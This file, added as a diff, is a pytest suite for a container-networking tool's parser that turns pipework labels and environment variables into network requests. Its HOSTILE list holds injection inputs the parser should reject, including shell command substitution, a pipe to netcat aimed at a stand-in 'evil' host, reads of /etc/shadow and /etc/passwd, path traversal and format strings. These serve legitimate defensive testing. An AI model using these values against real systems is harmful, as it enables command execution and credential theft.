@@ -1,0 +1,196 @@
+"""What a container asks for: labels, dreamcat4's variables, macros, and values that were meant to do harm."""
+
+from __future__ import annotations
+
+from typing import TYPE_CHECKING
+
+import pytest
+
+from pipework_core.watch.container import Container, make_container
+from pipework_core.watch.requests import asks, collect_requests
+
+if TYPE_CHECKING:
+    from collections.abc import Mapping
+
+ID = "4f0c" * 16
+
+
+def make(labels: Mapping[str, str] = {}, environment: Mapping[str, str] = {}, name: str = "shop_web_12") -> Container:
+    return Container(
+        runtime="docker",
+        id=ID,
+        name=name,
+        hostname="h1",
+        project="shop",
+        network="none",
+        labels=labels,
+        environment=environment,
+    )
+
+
+def lines(container: Container, *, variables: bool = True) -> list[str]:
+    found, mistakes = collect_requests(container, variables=variables)
+    assert not mistakes, mistakes
+    return [" ".join(request.words) for request in found]
+
+
+def test_a_label_is_a_line_without_guest_and_interface() -> None:
+    labels = {"pipework.eth1": "br1 192.168.1.1/24@192.168.1.254", "other": "x", "pipework.enable": "true"}
+    (request,) = collect_requests(make(labels))[0]
+    asked = request.attachment
+    assert (asked.guest, asked.interface, asked.host) == ("docker:shop_web_12", "eth1", "br1")
+    assert (list(map(str, asked.addresses)), list(map(str, asked.gateways))) == (["192.168.1.1/24"], ["192.168.1.254"])
+
+
+def test_labels_have_the_options_of_the_command_line() -> None:
+    labels = {"pipework.eth2": "--mtu 1400 ovs:sw0 udhcpc U:web@10", "pipework.eth1": "-o mode=private eth0 0/0"}
+    assert lines(make(labels)) == [
+        "-i eth1 -o mode=private eth0 docker:shop_web_12 0/0",
+        "-i eth2 --mtu 1400 ovs:sw0 docker:shop_web_12 udhcpc U:web@10",
+    ]
+
+
+@pytest.mark.parametrize("word", ["false", "no", "0", "off", "False"])
+def test_the_author_can_opt_out(word: str) -> None:
+    assert lines(make({"pipework.eth1": "br1 10.0.0.1/24", "pipework.enable": word})) == []
+
+
+def test_macros_are_filled_in_within_words() -> None:
+    labels = {"pipework.eth1": "br1 10.0.0.@INSTANCE@/24 U:@CONTAINER_NAME@-@COMPOSE_PROJECT_NAME@-@HOSTNAME@"}
+    (line,) = lines(make(labels))
+    assert line == "-i eth1 br1 docker:shop_web_12 10.0.0.12/24 U:shop_web_12-shop-h1"
+
+
+def test_a_macro_that_is_empty_is_a_mistake() -> None:
+    _, (mistake,) = collect_requests(make({"pipework.eth1": "br1 10.0.0.@INSTANCE@/24"}, name="web"))
+    assert "@INSTANCE@ is empty for web" in str(mistake.error)
+
+
+@pytest.mark.parametrize(
+    ("value", "line"),
+    [
+        ("eth0 @CONTAINER_NAME@ 192.168.1.101/24@192.168.1.1 0a:00:01:01:01:01", None),
+        ("pipework eth0 -i eth2 @CONTAINER_ID@ dhcp", "eth0 -i eth2 docker:shop_web_12 dhcp"),
+        ("        eth0 -i eth0 @CONTAINER_NAME@ dhcp", "eth0 -i eth0 docker:shop_web_12 dhcp"),
+        ('"eth0 @CONTAINER_NAME@ dhcp"', "eth0 docker:shop_web_12 dhcp"),
+        (f"br1 {ID} 192.168.101.@INSTANCE@/24", "br1 docker:shop_web_12 192.168.101.12/24"),
+    ],
+)
+def test_variables_of_dreamcat4_are_read(value: str, line: str | None) -> None:
+    expected = line or "eth0 docker:shop_web_12 192.168.1.101/24@192.168.1.1 0a:00:01:01:01:01"
+    assert lines(make(environment={"my_pipework_cmd_a": value})) == [expected]
+
+
+def test_variables_are_read_when_asked_for_and_in_the_order_of_their_names() -> None:
+    environment = {
+        f"pipework_cmd_{n}": f"br{n} @CONTAINER_NAME@ 10.0.{n}.1/24 -i eth{n}".replace("-i", "-i") for n in "21"
+    }
+    container = make(environment=environment)
+    assert lines(container, variables=False) == []
+    assert [line.split()[0] for line in lines(container)] == ["br1", "br2"]
+
+
+def test_another_guest_is_refused() -> None:
+    _, (mistake,) = collect_requests(make(environment={"pipework_cmd": "br1 db 9.9.9.9/24"}), variables=True)
+    assert str(mistake.error) == "db is another guest."
+
+
+HOSTILE = [
+    'br1 x"; id >/run/pwned; echo "',
+    "br1; id >/run/pwned 10.0.0.1/24",
+    "br1 $(id -u >/run/pwned2) 10.0.0.1/24",
+    "br1 `id` 10.0.0.1/24",
+    "br1 /sys/class/net/* 10.0.0.1/24",
+    "br1 10.0.0.1/24 | nc evil 1",
+    "br1\n10.0.0.1/24\nbr2",
+    "../../etc 10.0.0.1/24",
+    "br1 ../../x/24",
+    "'",
+    '"',
+    "\\",
+    "",
+    " ",
+    "br1",
+    "--driver ssh://evil br1 10.0.0.1/24",
+    "--record /etc/passwd br1 10.0.0.1/24",
+    "--replay /etc/shadow br1 10.0.0.1/24",
+    "--dry-run br1 10.0.0.1/24",
+    "-f /etc/shadow br1 10.0.0.1/24",
+    "detach br1",
+    "route br1 add default via 10.0.0.1",
+    "up",
+    "watch --once",
+    "--help",
+    "-- -x 10.0.0.1/24",
+    "-i eth9 br1 10.0.0.1/24",
+    "br1 10.0.0.1/24 0a:00:01:01:01:01@9999999",
+    "br1 10.0.0.1/24 not-a-mac",
+    "br1 300.0.0.1/24",
+    "br1 10.0.0.1",
+    "br1 10.0.0.1/99",
+    "br1 10.0.0.1/24,10.0.0.1/24",
+    "br1 dhcp\x00",
+    "b" * 5000,
+    "br1 " + "10.0.0.1/24," * 1000,
+    "-o ../../x br1 10.0.0.1/24",
+    "--mtu -1 br1 10.0.0.1/24",
+    "--mtu 99999999999999999999 br1 10.0.0.1/24",
+    "br1 10.0.0.1/24@::1",
+    "@CONTAINER_NAME@@CONTAINER_NAME@ 10.0.0.1/24",
+    "%s%s%n br1 10.0.0.1/24",
+    "br%d 10.0.0.1/24",
+    "\x1b[2J 10.0.0.1/24",
+    "br1 10.0.0.1/24 U:",
+    "br1 10.0.0.1/24 @",
+    "no such words at all",
+    "attach",
+    "attach br1",
+    "host br1 10.0.0.1/24",
+]
+
+
+@pytest.mark.parametrize("value", HOSTILE)
+def test_a_value_that_makes_no_sense_is_one_sentence(value: str) -> None:
+    found, (mistake,) = collect_requests(make({"pipework.eth1": value}))
+    assert found == []
+    assert str(mistake.error).strip()
+    assert "\n" not in str(mistake.error)
+    assert mistake.error.hint
+
+
+@pytest.mark.parametrize(
+    "key", ["pipework.", "pipework.a/b", "pipework.eth1.2.3.4.5.6.7.8", "pipework.-x", "pipework. "]
+)
+def test_a_label_whose_interface_cannot_be_is_a_mistake(key: str) -> None:
+    found, (mistake,) = collect_requests(make({key: "br1 10.0.0.1/24"}))
+    assert (found, bool(mistake.error.hint)) == ([], True)
+
+
+def test_what_the_image_says_does_not_count() -> None:
+    told = {
+        "Id": ID,
+        "Name": "/web1",
+        "HostConfig": {"NetworkMode": "none"},
+        "Config": {
+            "Image": "shop/web",
+            "Labels": {"pipework.eth1": "br1 10.0.0.1/24", "pipework.eth2": "br2 10.0.0.2/24"},
+            "Env": ["pipework_cmd=br1 @CONTAINER_NAME@ 1.1.1.1/24", "PATH=/bin", "odd"],
+        },
+    }
+    image = {
+        "Config": {
+            "Labels": {"pipework.eth1": "br1 10.0.0.1/24"},
+            "Env": ["pipework_cmd=br1 @CONTAINER_NAME@ 1.1.1.1/24"],
+        }
+    }
+    container = make_container("docker", told, image)
+    assert container.labels == {"pipework.eth2": "br2 10.0.0.2/24"}
+    assert container.environment == {"PATH": "/bin"}
+    assert "pipework.eth1" in make_container("docker", told, image, from_image=True).labels
+
+
+@pytest.mark.parametrize(
+    ("labels", "expected"), [({"pipework.eth1": "x"}, True), ({"a": "b"}, False), (None, False), ({1: 2}, False)]
+)
+def test_a_glance_at_labels_tells_who_asks(labels: object, *, expected: bool) -> None:
+    assert asks(labels) is expected
